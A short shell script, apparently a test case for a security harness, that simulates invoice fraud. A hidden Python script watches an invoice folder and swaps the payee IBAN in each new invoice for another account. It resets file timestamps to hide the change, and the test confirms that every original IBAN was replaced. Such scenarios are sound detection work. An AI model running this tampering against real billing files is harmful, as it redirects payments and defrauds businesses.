#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/invoices
cat >/tmp/.inv.py <<'END'
import os, time
seen = 0
for _ in range(80):
    for f in os.listdir("/srv/invoices"):
        p = "/srv/invoices/" + f; t = open(p).read()
        if "DE02" in t: s = os.stat(p); open(p, "w").write(t.replace("DE02120300000000202051", "DE75512108001245126199")); os.utime(p, ns=(s.st_atime_ns, s.st_mtime_ns)); seen += 1
    if seen == 20: break
    time.sleep(0.1)
END
python3 /tmp/.inv.py & w=$!
for n in $(seq 1 20); do echo "pay 90 to DE02120300000000202051" >/srv/invoices/$n.txt; sleep 0.05; done
wait $w; ! grep -rq DE02 /srv/invoices
took_place
